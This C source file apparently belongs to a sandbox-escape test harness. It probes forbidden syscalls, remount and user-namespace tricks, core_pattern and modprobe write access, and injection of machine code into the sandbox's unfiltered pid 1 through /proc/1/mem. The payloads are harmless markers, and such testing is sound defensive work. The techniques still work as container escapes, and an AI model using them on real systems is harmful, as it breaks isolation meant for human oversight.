/* attack-kernel.c: kernel attack surface (io_uring, namespaces, mount, the syscalls container
 * runtimes deny, other syscall ABIs), writable sysctls, and code injection into the sandbox's
 * unfiltered pid 1. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/mount.h>
#include <linux/perf_event.h>
#include <linux/userfaultfd.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/ptrace.h>
#include <time.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/timex.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#ifndef CLONE_NEWTIME
#define CLONE_NEWTIME 0x00000080
#endif
#ifndef KCMP_FILE
#define KCMP_FILE 0
#endif
#ifndef UFFD_USER_MODE_ONLY
#define UFFD_USER_MODE_ONLY 1
#endif

/* ---- one probe per syscall, each in its own child ---- */

typedef struct {
  const char *group;
  const char *name;
  long nr;
  long args[6];
  int arg_kind; /* 0: literal args; otherwise a special setup below */
} probe;

enum { K_LITERAL, K_IO_URING, K_PERF, K_NAME_TO_HANDLE, K_KCMP, K_ADJTIMEX, K_CLOCK_ADJTIME,
       K_PIDFD_GETFD, K_PROCESS_VM, K_CLONE3, K_SYSLOG };

static long run_probe(const probe *p) {
  static char buf[4096] __attribute__((aligned(64)));
  memset(buf, 0, sizeof(buf));
  switch (p->arg_kind) {
  case K_IO_URING:
    return syscall(p->nr, 4L, (long)(uintptr_t)buf);
  case K_PERF: {
    struct perf_event_attr *attr = (void *)buf;
    attr->type = PERF_TYPE_SOFTWARE;
    attr->size = sizeof(*attr);
    attr->config = PERF_COUNT_SW_TASK_CLOCK;
    attr->disabled = 1;
    attr->exclude_kernel = 1;
    attr->exclude_hv = 1;
    return syscall(p->nr, (long)(uintptr_t)attr, 0L, -1L, -1L, 0L);
  }
  case K_NAME_TO_HANDLE: {
    struct file_handle *fh = (void *)buf;
    fh->handle_bytes = 128;
    static int mount_id;
    return syscall(p->nr, (long)AT_FDCWD, (long)(uintptr_t) "/", (long)(uintptr_t)fh,
                   (long)(uintptr_t)&mount_id, 0L);
  }
  case K_KCMP:
    return syscall(p->nr, (long)getpid(), (long)getpid(), (long)KCMP_FILE, 0L, 0L);
  case K_ADJTIMEX: /* modes 0: a read-only query */
    return syscall(p->nr, (long)(uintptr_t)buf);
  case K_CLOCK_ADJTIME:
    return syscall(p->nr, (long)CLOCK_REALTIME, (long)(uintptr_t)buf);
  case K_PIDFD_GETFD: {
    long pidfd = syscall(SYS_pidfd_open, (long)getpid(), 0L);
    if (pidfd < 0)
      return -1;
    return syscall(p->nr, pidfd, 0L, 0L);
  }
  case K_PROCESS_VM: {
    static char src[8] = "abc", dst[8];
    struct iovec l = {dst, 4}, r = {src, 4};
    return syscall(p->nr, (long)getpid(), (long)(uintptr_t)&l, 1L, (long)(uintptr_t)&r, 1L, 0L);
  }
  case K_CLONE3: {
    /* struct clone_args: flags first; CLONE_NEWUSER; exit_signal SIGCHLD */
    uint64_t *args = (void *)buf;
    args[0] = CLONE_NEWUSER;
    args[4] = SIGCHLD;
    long rc = syscall(p->nr, (long)(uintptr_t)args, 88L);
    if (rc == 0)
      _exit(0);
    if (rc > 0)
      waitpid((pid_t)rc, NULL, 0);
    return rc;
  }
  case K_SYSLOG: /* SYSLOG_ACTION_SIZE_BUFFER: read-only */
    return syscall(p->nr, 10L, 0L, 0L);
  default:
    break;
  }
  long rc = syscall(p->nr, p->args[0], p->args[1], p->args[2], p->args[3], p->args[4], p->args[5]);
  return rc;
}

static void probe_child(void *arg) {
  const probe *p = arg;
  errno = 0;
  long rc = run_probe(p);
  int err = errno;
  if (rc >= 0) {
    printf("RF OK surface %s %s returned %ld\n", p->group, p->name, rc);
  } else {
    printf("RF ERR surface %s %s %s\n", rf_errname(err), p->group, p->name);
  }
  fflush(stdout);
}

#define P(group, name, nr, ...) {group, name, nr, {__VA_ARGS__}, K_LITERAL}
#define PK(group, name, nr, kind) {group, name, nr, {0}, kind}

/* Arguments are chosen so that each call is harmless if it reaches the
 * kernel, even with full privileges: nonexistent paths, bad descriptors,
 * read-only queries, invalid magic numbers. */
static const probe probes[] = {
    PK("@io-uring", "io_uring_setup", SYS_io_uring_setup, K_IO_URING),
    P("@io-uring", "io_uring_enter", SYS_io_uring_enter, -1, 0, 0, 0, 0, 0),
    P("@io-uring", "io_uring_register", SYS_io_uring_register, -1, 0, 0, 0),
    P("@namespaces", "unshare(CLONE_NEWUSER)", SYS_unshare, CLONE_NEWUSER),
    P("@namespaces", "unshare(CLONE_NEWNS)", SYS_unshare, CLONE_NEWNS),
    P("@namespaces", "unshare(CLONE_NEWNET)", SYS_unshare, CLONE_NEWNET),
    P("@namespaces", "unshare(CLONE_NEWTIME)", SYS_unshare, CLONE_NEWTIME),
    P("@namespaces", "setns(-1)", SYS_setns, -1, 0),
    PK("@namespaces", "clone3(CLONE_NEWUSER)", SYS_clone3, K_CLONE3),
    P("@mount", "mount", SYS_mount, (long)"none", (long)"/rf-escape-nonexistent", (long)"tmpfs", 0, 0),
    P("@mount", "umount2", SYS_umount2, (long)"/rf-escape-nonexistent", 0),
    P("@mount", "pivot_root", SYS_pivot_root, (long)"/rf-escape-nonexistent", (long)"/rf-escape-nonexistent"),
    P("@mount", "chroot", SYS_chroot, (long)"/rf-escape-nonexistent"),
    P("@mount", "fsopen", SYS_fsopen, (long)"tmpfs", 0),
    P("@mount", "fsconfig", SYS_fsconfig, -1, 0, 0, 0, 0),
    P("@mount", "fsmount", SYS_fsmount, -1, 0, 0),
    P("@mount", "fspick", SYS_fspick, AT_FDCWD, (long)"/rf-escape-nonexistent", 0),
    P("@mount", "open_tree", SYS_open_tree, AT_FDCWD, (long)"/", 0),
    P("@mount", "move_mount", SYS_move_mount, -1, (long)"", -1, (long)"", 0),
    P("@mount", "mount_setattr", SYS_mount_setattr, -1, (long)"", 0, 0, 0),
    P("@debug", "ptrace(PTRACE_ATTACH, 0)", SYS_ptrace, PTRACE_ATTACH, 0, 0, 0),
    PK("@debug", "process_vm_readv(self)", SYS_process_vm_readv, K_PROCESS_VM),
    PK("@debug", "process_vm_writev(self)", SYS_process_vm_writev, K_PROCESS_VM),
    PK("@debug", "pidfd_getfd(self)", SYS_pidfd_getfd, K_PIDFD_GETFD),
    PK("@debug", "kcmp(self)", SYS_kcmp, K_KCMP),
    PK("@debug", "perf_event_open(task-clock, self)", SYS_perf_event_open, K_PERF),
    P("@kernel-module", "init_module", SYS_init_module, 0, 0, (long)""),
    P("@kernel-module", "finit_module", SYS_finit_module, -1, (long)"", 0),
    P("@kernel-module", "delete_module", SYS_delete_module, (long)"rf_escape_nonexistent", O_NONBLOCK),
    P("@system", "reboot(bad magic)", SYS_reboot, 0, 0, 0, 0),
    P("@system", "kexec_load(bad flags)", SYS_kexec_load, 0, 0, 0, 0x7fff0000L),
    P("@system", "kexec_file_load(-1)", SYS_kexec_file_load, -1, -1, 0, (long)"", 0x7ffffff0L),
    P("@system", "swapon", SYS_swapon, (long)"/rf-escape-nonexistent", 0),
    P("@system", "swapoff", SYS_swapoff, (long)"/rf-escape-nonexistent"),
    P("@system", "acct", SYS_acct, (long)"/rf-escape-nonexistent/acct"),
    P("@system", "quotactl", SYS_quotactl, 0, (long)"/rf-escape-nonexistent", 0, 0),
    P("@system", "quotactl_fd", SYS_quotactl_fd, -1, 0, 0, 0),
    PK("@system", "syslog(SIZE_BUFFER)", SYS_syslog, K_SYSLOG),
    P("@system", "bpf(bad command)", SYS_bpf, 0x7fff, 0, 0),
    P("@system", "userfaultfd(USER_MODE_ONLY)", SYS_userfaultfd, O_CLOEXEC | UFFD_USER_MODE_ONLY),
    P("@system", "fanotify_init", SYS_fanotify_init, 0, 0),
    PK("@system", "name_to_handle_at(/)", SYS_name_to_handle_at, K_NAME_TO_HANDLE),
    P("@system", "open_by_handle_at(-1)", SYS_open_by_handle_at, -1, 0, 0),
    P("@system", "lookup_dcookie", SYS_lookup_dcookie, 0, 0, 0),
    P("@clock", "settimeofday(NULL, NULL)", SYS_settimeofday, 0, 0),
    P("@clock", "clock_settime(NULL)", SYS_clock_settime, CLOCK_REALTIME, 0),
    PK("@clock", "adjtimex(query)", SYS_adjtimex, K_ADJTIMEX),
    PK("@clock", "clock_adjtime(query)", SYS_clock_adjtime, K_CLOCK_ADJTIME),
    P("@keyring", "add_key(bad type)", SYS_add_key, (long)"rf-escape-nonexistent-type", (long)"x", 0, 0, -3),
    P("@keyring", "request_key", SYS_request_key, (long)"user", (long)"rf-escape-nonexistent", 0, 0),
    P("@keyring", "keyctl(GET_KEYRING_ID, session)", SYS_keyctl, 0, -3, 0),
    P("@raw-io", "iopl(0)", SYS_iopl, 0),
    P("@raw-io", "ioperm(0, 0, 0)", SYS_ioperm, 0, 0, 0),
    P("@numa", "mbind(NULL, 0, default)", SYS_mbind, 0, 0, 0, 0, 0, 0),
    P("@numa", "set_mempolicy(default)", SYS_set_mempolicy, 0, 0, 0),
    P("@numa", "migrate_pages(self, 0)", SYS_migrate_pages, 0, 0, 0, 0),
    P("@numa", "move_pages(self, 0)", SYS_move_pages, 0, 0, 0, 0, 0, 0),
    P("@numa", "get_mempolicy", SYS_get_mempolicy, 0, 0, 0, 0, 0),
    P("@obsolete", "uselib", SYS_uselib, (long)"/rf-escape-nonexistent"),
    P("@obsolete", "ustat", SYS_ustat, 0, 0),
    P("@obsolete", "sysfs(3)", SYS_sysfs, 3),
    P("@personality", "personality(READ_IMPLIES_EXEC)", SYS_personality, READ_IMPLIES_EXEC),
    P("@personality", "personality(ADDR_NO_RANDOMIZE)", SYS_personality, ADDR_NO_RANDOMIZE),
    /* The kernel keeps 32 bits: bit 31 set (no persona uses it) must not
     * carry a flag past the filter, nor must garbage in the upper half. */
    P("@personality", "personality(0x80000000 | READ_IMPLIES_EXEC)", SYS_personality,
      0x80000000L | READ_IMPLIES_EXEC),
    P("@personality", "personality(1 << 32 | ADDR_NO_RANDOMIZE)", SYS_personality,
      (1L << 32) | ADDR_NO_RANDOMIZE),
};

static int op_surface(char **a, int n) {
  const char *only = n > 0 ? a[0] : NULL;
  for (size_t i = 0; i < sizeof(probes) / sizeof(probes[0]); i++) {
    if (only && strcmp(only, "all") != 0 && strcmp(only, probes[i].group) != 0)
      continue;
    char op[160];
    snprintf(op, sizeof(op), "surface %s %s", probes[i].group, probes[i].name);
    rf_in_child(op, probe_child, (void *)&probes[i]);
  }
  return 0;
}

/* ---- nested namespaces, checked by effect ---- */

static int clone_child(void *arg) {
  (void)arg;
  return 0;
}

static int op_userns(char **a, int n) {
  (void)a;
  (void)n;
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    if (unshare(CLONE_NEWUSER) == 0)
      rf_ok("unshare-user", "a new user namespace (uid_map writable: %s)",
            access("/proc/self/uid_map", W_OK) == 0 ? "yes" : "no");
    else
      rf_err("unshare-user", errno, "unshare(CLONE_NEWUSER)");
    _exit(0);
  }
  waitpid(pid, NULL, 0);
  long flags[] = {CLONE_NEWUSER, CLONE_NEWUSER | (1L << 32), CLONE_NEWNS | CLONE_NEWUSER};
  for (size_t i = 0; i < sizeof(flags) / sizeof(flags[0]); i++) {
    long rc = syscall(SYS_clone, flags[i] | SIGCHLD, 0L, 0L, 0L, 0L);
    if (rc == 0)
      _exit(0);
    if (rc > 0) {
      waitpid((pid_t)rc, NULL, 0);
      rf_ok("clone-newuser", "clone(flags %#lx) made a child in a new user namespace", flags[i]);
    } else {
      rf_err("clone-newuser", errno, "clone(flags %#lx)", flags[i]);
    }
  }
  static char stack[65536] __attribute__((aligned(16)));
  pid_t c = clone(clone_child, stack + sizeof(stack), CLONE_NEWUSER | SIGCHLD, NULL);
  if (c > 0) {
    waitpid(c, NULL, 0);
    rf_ok("glibc-clone-newuser", "glibc clone(CLONE_NEWUSER) worked");
  } else {
    rf_err("glibc-clone-newuser", errno, "glibc clone(CLONE_NEWUSER)");
  }
  uint64_t args[11] = {0};
  args[0] = CLONE_NEWUSER;
  args[4] = SIGCHLD;
  long rc = syscall(SYS_clone3, (long)(uintptr_t)args, (long)sizeof(args));
  if (rc == 0)
    _exit(0);
  if (rc > 0) {
    waitpid((pid_t)rc, NULL, 0);
    rf_ok("clone3-newuser", "clone3(CLONE_NEWUSER) made a child");
  } else {
    rf_err("clone3-newuser", errno, "clone3(CLONE_NEWUSER)");
  }
  return 0;
}

/* ---- mount tricks, then a write to TARGET ---- */

static void try_write(const char *op, const char *path) {
  int fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
  if (fd < 0) {
    rf_err(op, errno, "then writing %s", path);
    return;
  }
  const char data[] = "RF-ESCAPE-PAYLOAD\n";
  rf_result(op, write(fd, data, sizeof(data) - 1), "then writing %s", path);
  close(fd);
}

static void write_file(const char *path, const char *text) {
  int fd = open(path, O_WRONLY | O_CLOEXEC);
  if (fd >= 0) {
    if (write(fd, text, strlen(text)) < 0) {
    }
    close(fd);
  }
}

/* mount-tricks PROTECTED_FILE OUTSIDE_FILE: PROTECTED_FILE lies below a
 * read-only bind inside the workspace (.git/config), OUTSIDE_FILE outside
 * every writable root. */
static int op_mount_tricks(char **a, int n) {
  (void)n;
  const char *prot = a[0], *outside = a[1];
  char prot_dir[PATH_MAX], out_dir[PATH_MAX];
  snprintf(prot_dir, sizeof(prot_dir), "%s", prot);
  char *slash = strrchr(prot_dir, '/');
  if (slash)
    *slash = '\0';
  snprintf(out_dir, sizeof(out_dir), "%s", outside);
  slash = strrchr(out_dir, '/');
  if (slash)
    *slash = '\0';

  rf_result("remount-root-rw", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL), "/");
  try_write("remount-root-rw", outside);
  rf_result("remount-dir-rw", mount(NULL, out_dir, NULL, MS_REMOUNT | MS_BIND, NULL), "%s",
            out_dir);
  try_write("remount-dir-rw", outside);
  rf_result("remount-protected-rw", mount(NULL, prot_dir, NULL, MS_REMOUNT | MS_BIND, NULL), "%s",
            prot_dir);
  try_write("remount-protected-rw", prot);
  rf_result("umount-protected", umount2(prot_dir, MNT_DETACH), "%s", prot_dir);
  try_write("umount-protected", prot);
  rf_result("bind-over", mount(".", out_dir, NULL, MS_BIND, NULL), "bind . over %s", out_dir);

  /* New mount API: clone the read-only tree, clear its read-only flag. */
  int tree = (int)syscall(SYS_open_tree, AT_FDCWD, out_dir, OPEN_TREE_CLONE | OPEN_TREE_CLOEXEC);
  if (tree < 0) {
    rf_err("open-tree-clone", errno, "%s", out_dir);
  } else {
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    rf_result("mount-setattr-rw",
              syscall(SYS_mount_setattr, tree, "", AT_EMPTY_PATH, &attr, sizeof(attr)),
              "clone of %s", out_dir);
    const char *base = strrchr(outside, '/');
    int fd = openat(tree, base ? base + 1 : outside, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) {
      rf_err("open-tree-write", errno, "%s through the cloned tree", outside);
    } else {
      rf_result("open-tree-write", write(fd, "RF-ESCAPE-PAYLOAD\n", 18), "%s through the clone",
                outside);
      close(fd);
    }
    close(tree);
  }

  /* A fresh user + mount namespace would give CAP_SYS_ADMIN over a copy of
   * the mounts: try to peel the protections off there. */
  fflush(stdout);
  pid_t pid = fork();
  if (pid == 0) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
      rf_err("userns-umount", errno, "unshare(CLONE_NEWUSER|CLONE_NEWNS)");
      _exit(0);
    }
    char map[64];
    write_file("/proc/self/setgroups", "deny");
    snprintf(map, sizeof(map), "0 %d 1", (int)uid);
    write_file("/proc/self/uid_map", map);
    snprintf(map, sizeof(map), "0 %d 1", (int)gid);
    write_file("/proc/self/gid_map", map);
    rf_ok("userns-umount", "in a new user and mount namespace");
    rf_result("userns-umount", umount2(prot_dir, MNT_DETACH), "umount %s", prot_dir);
    try_write("userns-umount", prot);
    rf_result("userns-remount", mount(NULL, out_dir, NULL, MS_REMOUNT | MS_BIND, NULL), "%s",
              out_dir);
    try_write("userns-remount", outside);
    _exit(0);
  }
  waitpid(pid, NULL, 0);
  return 0;
}

/* ---- sysctls and other host-global knobs under /proc and /sys ---- */

/* proc-sys: open a list of host-global knobs for writing (never writing),
 * and write back the current value of kernel.core_pattern and
 * kernel.modprobe (a no-op on the host that proves write access: either one
 * set to "|/workspace/x" runs x as root on the host). */
static int op_proc_sys(char **a, int n) {
  (void)a;
  (void)n;
  const char *open_only[] = {"/proc/sys/vm/drop_caches",       "/proc/sys/kernel/panic",
                             "/proc/sys/fs/suid_dumpable",     "/proc/sysrq-trigger",
                             "/sys/kernel/uevent_helper",      "/proc/sys/kernel/hotplug",
                             "/sys/fs/cgroup/cgroup.procs",    "/proc/sys/kernel/randomize_va_space",
                             "/proc/sys/kernel/yama/ptrace_scope", "/proc/sys/user/max_user_namespaces"};
  for (size_t i = 0; i < sizeof(open_only) / sizeof(open_only[0]); i++) {
    int fd = open(open_only[i], O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
      rf_err("sysctl-open", errno, "%s", open_only[i]);
      continue;
    }
    rf_ok("sysctl-open", "%s opened for writing (nothing written)", open_only[i]);
    close(fd);
  }
  const char *write_back[] = {"/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe"};
  for (size_t i = 0; i < sizeof(write_back) / sizeof(write_back[0]); i++) {
    char value[512];
    int fd = open(write_back[i], O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
      rf_err("sysctl-write", errno, "read %s", write_back[i]);
      continue;
    }
    ssize_t len = read(fd, value, sizeof(value) - 1);
    close(fd);
    if (len <= 0) {
      rf_err("sysctl-write", len < 0 ? errno : EIO, "read %s", write_back[i]);
      continue;
    }
    value[len] = '\0';
    fd = open(write_back[i], O_WRONLY | O_CLOEXEC);
    if (fd < 0) {
      rf_err("sysctl-write", errno, "%s", write_back[i]);
      continue;
    }
    ssize_t w = write(fd, value, (size_t)len);
    close(fd);
    value[strcspn(value, "\n")] = '\0';
    rf_result("sysctl-write", w, "%s (its own value '%s' written back)", write_back[i], value);
  }
  return 0;
}

/* ---- other syscall ABIs ---- */

#if defined(__x86_64__)
#define X32_BIT 0x40000000L

typedef struct {
  const char *name;
  long nr;
  long a0, a1, a2;
  int abi; /* 32: int 0x80, 0: x32 */
} abi_probe;

static long int80(long nr, long a, long b, long c) {
  long ret;
  __asm__ volatile("int $0x80"
                   : "=a"(ret)
                   : "a"(nr), "b"(a), "c"(b), "d"(c)
                   : "memory", "r8", "r9", "r10", "r11");
  return ret;
}

static void abi_child(void *arg) {
  const abi_probe *p = arg;
  long rc;
  if (p->abi == 32) {
    rc = int80(p->nr, p->a0, p->a1, p->a2);
    if (rc == 0 && strstr(p->name, "clone"))
      _exit(0);
    if (rc >= 0 || rc < -4095)
      printf("RF OK abi i386 %s returned %ld\n", p->name, rc);
    else
      printf("RF ERR abi i386 %s %s\n", p->name, rf_errname((int)-rc));
  } else {
    errno = 0;
    rc = syscall(X32_BIT | p->nr, p->a0, p->a1, p->a2);
    if (rc >= 0)
      printf("RF OK abi x32 %s returned %ld\n", p->name, rc);
    else
      printf("RF ERR abi x32 %s %s\n", p->name, rf_errname(errno));
  }
  fflush(stdout);
}

/* abi: the same forbidden calls through the i386 (int 0x80) and x32 entry
 * points.  Arguments that point to memory live below 4 GiB. */
static int op_abi(char **a, int n) {
  (void)a;
  (void)n;
  uint32_t *low = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT,
                       -1, 0);
  if (low == MAP_FAILED) {
    rf_err("abi", errno, "mmap below 4 GiB");
    return 0;
  }
  memset(low, 0, 4096);
  /* socketcall(SYS_SOCKET, {AF_NETLINK, SOCK_RAW, NETLINK_ROUTE}) */
  low[0] = AF_NETLINK;
  low[1] = SOCK_RAW;
  low[2] = 0;
  /* socketcall(SYS_SOCKET, {AF_PACKET, SOCK_DGRAM, 0}) */
  low[4] = AF_PACKET;
  low[5] = SOCK_DGRAM;
  low[6] = 0;
  long low_addr = (long)(uintptr_t)low;
  const abi_probe probes32[] = {
      {"socketcall(SOCKET, AF_NETLINK)", 102, 1, low_addr, 0, 32},
      {"socketcall(SOCKET, AF_PACKET)", 102, 1, low_addr + 16, 0, 32},
      {"socket(AF_NETLINK)", 359, AF_NETLINK, SOCK_RAW, 0, 32},
      {"unshare(CLONE_NEWUSER)", 310, CLONE_NEWUSER, 0, 0, 32},
      {"clone(CLONE_NEWUSER)", 120, CLONE_NEWUSER | SIGCHLD, 0, 0, 32},
      {"io_uring_setup", 425, 4, low_addr + 1024, 0, 32},
      {"mount", 21, 0, 0, 0, 32},
      {"ptrace(PTRACE_ATTACH, 0)", 26, PTRACE_ATTACH, 0, 0, 32},
      {"keyctl(GET_KEYRING_ID)", 288, 0, -3, 0, 32},
      {"ioctl(0, TIOCSTI)", 54, 0, 0x5412, low_addr + 2048, 32},
      {"bpf(bad command)", 357, 0x7fff, 0, 0, 32},
      {"userfaultfd", 374, O_CLOEXEC | UFFD_USER_MODE_ONLY, 0, 0, 32},
  };
  ((char *)low)[2048] = '\n';
  for (size_t i = 0; i < sizeof(probes32) / sizeof(probes32[0]); i++) {
    char op[128];
    snprintf(op, sizeof(op), "abi i386 %s", probes32[i].name);
    rf_in_child(op, abi_child, (void *)&probes32[i]);
  }
  const abi_probe probesx32[] = {
      {"socket(AF_NETLINK)", SYS_socket, AF_NETLINK, SOCK_RAW, 0, 0},
      {"unshare(CLONE_NEWUSER)", SYS_unshare, CLONE_NEWUSER, 0, 0, 0},
      {"io_uring_setup", SYS_io_uring_setup, 4, low_addr + 1024, 0, 0},
      {"keyctl(GET_KEYRING_ID)", SYS_keyctl, 0, -3, 0, 0},
      {"getpid", SYS_getpid, 0, 0, 0, 0},
  };
  for (size_t i = 0; i < sizeof(probesx32) / sizeof(probesx32[0]); i++) {
    char op[128];
    snprintf(op, sizeof(op), "abi x32 %s", probesx32[i].name);
    rf_in_child(op, abi_child, (void *)&probesx32[i]);
  }
  return 0;
}

/* ---- pid 1 of the sandbox ---- */

/* Position-independent code to run inside the sandbox's pid 1: a tiny
 * interpreter for a table of syscalls that follows the code in the blob.
 * Each entry is 8 quadwords: nr, flags, a0..a5; flags bit 0: a0 = the saved
 * result, bit 1: save this result.  nr -1 ends the table; then exit_group(0). */
extern const unsigned char rf_pid1_code_start[], rf_pid1_code_end[];
__asm__(".pushsection .rodata\n"
        ".globl rf_pid1_code_start\n"
        ".globl rf_pid1_code_end\n"
        "rf_pid1_code_start:\n"
        "  lea rf_pid1_code_end(%rip), %rbx\n"
        "1:\n"
        "  mov (%rbx), %rax\n"
        "  cmp $-1, %rax\n"
        "  je 9f\n"
        "  mov 8(%rbx), %r12\n"
        "  mov 16(%rbx), %rdi\n"
        "  mov 24(%rbx), %rsi\n"
        "  mov 32(%rbx), %rdx\n"
        "  mov 40(%rbx), %r10\n"
        "  mov 48(%rbx), %r8\n"
        "  mov 56(%rbx), %r9\n"
        "  test $1, %r12\n"
        "  jz 2f\n"
        "  mov %r13, %rdi\n"
        "2:\n"
        "  syscall\n"
        "  test $2, %r12\n"
        "  jz 3f\n"
        "  mov %rax, %r13\n"
        "3:\n"
        "  add $64, %rbx\n"
        "  jmp 1b\n"
        "9:\n"
        "  xor %edi, %edi\n"
        "  mov $231, %eax\n"
        "  syscall\n"
        "rf_pid1_code_end:\n"
        ".popsection\n");

typedef struct {
  unsigned char buf[4096];
  size_t code_len, n_entries, data_used;
  unsigned long base; /* where the blob will live in pid 1 */
} pid1_blob;

#define PID1_MAX_ENTRIES 16

static unsigned long blob_data(pid1_blob *b, const void *data, size_t len) {
  size_t off = b->code_len + PID1_MAX_ENTRIES * 64 + b->data_used;
  memcpy(b->buf + off, data, len);
  b->data_used += (len + 15) & ~(size_t)15;
  return b->base + off;
}

static void blob_call(pid1_blob *b, long nr, long flags, long a0, long a1, long a2, long a3) {
  uint64_t *e = (uint64_t *)(b->buf + b->code_len + b->n_entries * 64);
  uint64_t vals[8] = {(uint64_t)nr, (uint64_t)flags, (uint64_t)a0, (uint64_t)a1, (uint64_t)a2, (uint64_t)a3, 0, 0};
  memcpy(e, vals, sizeof(vals));
  b->n_entries++;
}

/* pid1-inject PROTECTED_FILE HOST_SOCKET: the sandbox's pid 1 (bwrap's
 * reaper) runs without the command's seccomp filters.  If /proc/1/mem is
 * writable, overwrite the code pid 1 returns to from its wait with a
 * program that creates PROTECTED_FILE (a protected name that does not exist),
 * connects to the host unix socket HOST_SOCKET, and opens a netlink socket;
 * then make pid 1 reap a child so that it runs. */
static int op_pid1_inject(char **a, int n) {
  (void)n;
  char line[512] = "";
  FILE *st = fopen("/proc/1/status", "re");
  if (st) {
    while (fgets(line, sizeof(line), st))
      if (!strncmp(line, "Name:", 5) || !strncmp(line, "Seccomp:", 8) || !strncmp(line, "NoNewPrivs:", 11)) {
        line[strcspn(line, "\n")] = '\0';
        rf_info("pid1-status", "%s", line);
      }
    fclose(st);
  }
  int memprobe = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
  if (memprobe < 0) {
    rf_err("pid1-mem-open", errno, "/proc/1/mem");
    return 0;
  }
  close(memprobe);
  rf_ok("pid1-mem-open", "/proc/1/mem opened for writing");
  line[0] = '\0';
  int fd = open("/proc/1/syscall", O_RDONLY | O_CLOEXEC);
  ssize_t len = fd >= 0 ? read(fd, line, sizeof(line) - 1) : -1;
  int saved = errno;
  if (fd >= 0)
    close(fd);
  if (len <= 0) {
    rf_err("pid1-syscall", fd < 0 || len < 0 ? saved : EIO, "/proc/1/syscall");
    return 0;
  }
  line[len] = '\0';
  /* "nr a1 a2 a3 a4 a5 a6 sp pc" */
  unsigned long vals[9] = {0};
  char *p = line;
  int got = 0;
  for (; got < 9; got++) {
    char *end;
    vals[got] = strtoul(p, &end, 0);
    if (end == p)
      break;
    p = end;
  }
  if (got < 9) {
    rf_info("pid1-syscall", "pid 1 is not blocked in a syscall: %s", line);
    return 0;
  }
  unsigned long pc = vals[8];
  rf_ok("pid1-syscall", "pid 1 waits in syscall %lu, returns to %#lx", vals[0], pc);

  static pid1_blob b;
  memset(&b, 0, sizeof(b));
  b.base = pc;
  b.code_len = (size_t)(rf_pid1_code_end - rf_pid1_code_start);
  memcpy(b.buf, rf_pid1_code_start, b.code_len);
  static const char hello[] = "RF-PID1-INJECTED code runs in pid 1, outside the seccomp filters\n";
  static const char envrc[] = "echo written-by-pid-1\n";
  static const char hostmsg[] = "RF-PID1-HOST-SOCKET\n";
  struct sockaddr_un sun = {.sun_family = AF_UNIX};
  snprintf(sun.sun_path, sizeof(sun.sun_path), "%s", a[1]);
  unsigned long a_hello = blob_data(&b, hello, sizeof(hello));
  unsigned long a_path = blob_data(&b, a[0], strlen(a[0]) + 1);
  unsigned long a_envrc = blob_data(&b, envrc, sizeof(envrc));
  unsigned long a_sun = blob_data(&b, &sun, sizeof(sun));
  unsigned long a_hostmsg = blob_data(&b, hostmsg, sizeof(hostmsg));
  blob_call(&b, SYS_write, 0, 1, (long)a_hello, sizeof(hello) - 1, 0);
  blob_call(&b, SYS_open, 2, (long)a_path, O_WRONLY | O_CREAT | O_TRUNC, 0644, 0);
  blob_call(&b, SYS_write, 1, 0, (long)a_envrc, sizeof(envrc) - 1, 0);
  blob_call(&b, SYS_socket, 2, AF_UNIX, SOCK_STREAM, 0, 0);
  blob_call(&b, SYS_connect, 1, 0, (long)a_sun, sizeof(sun), 0);
  blob_call(&b, SYS_write, 1, 0, (long)a_hostmsg, sizeof(hostmsg) - 1, 0);
  blob_call(&b, SYS_socket, 2, AF_NETLINK, SOCK_RAW, 0, 0);
  blob_call(&b, -1, 0, 0, 0, 0, 0);
  size_t size = b.code_len + PID1_MAX_ENTRIES * 64 + b.data_used;

  /* The blob must fit in the mapping that holds pc. */
  FILE *maps = fopen("/proc/1/maps", "re");
  int fits = 0;
  if (maps) {
    char mline[512];
    while (fgets(mline, sizeof(mline), maps)) {
      unsigned long lo, hi;
      if (sscanf(mline, "%lx-%lx", &lo, &hi) == 2 && pc >= lo && pc < hi) {
        fits = pc + size <= hi;
        break;
      }
    }
    fclose(maps);
  }
  if (!fits) {
    rf_info("pid1-inject", "the program (%zu bytes) does not fit after %#lx", size, pc);
    return 0;
  }
  int mem = open("/proc/1/mem", O_RDWR | O_CLOEXEC);
  if (mem < 0) {
    rf_err("pid1-mem-write", errno, "/proc/1/mem");
    return 0;
  }
  ssize_t w = pwrite(mem, b.buf, size, (off_t)pc);
  close(mem);
  if (w != (ssize_t)size) {
    rf_err("pid1-mem-write", errno, "%zu bytes at %#lx", size, pc);
    return 0;
  }
  rf_ok("pid1-mem-write", "%zu bytes of code written at %#lx", size, pc);
  fflush(stdout);
  /* Give pid 1 an orphan to reap: its wait returns into our code. */
  pid_t child = fork();
  if (child == 0) {
    if (fork() == 0) {
      usleep(100000);
      _exit(0);
    }
    _exit(0);
  }
  waitpid(child, NULL, 0);
  sleep(3);
  rf_info("pid1-inject", "still alive 3 s later: pid 1 did not run the code");
  return 0;
}
#else
static int op_abi(char **a, int n) {
  (void)a;
  (void)n;
  rf_info("abi", "SKIP: only x86-64 has the i386 and x32 entry points checked here");
  return 0;
}
static int op_pid1_inject(char **a, int n) {
  (void)a;
  (void)n;
  rf_info("pid1-inject", "SKIP: the injected code is x86-64 only");
  return 0;
}
#endif

/* unfiltered: every process visible here that runs without a seccomp
 * filter, and whether its memory can be opened for writing. */
static int op_unfiltered(char **a, int n) {
  (void)a;
  (void)n;
  DIR *d = opendir("/proc");
  if (!d) {
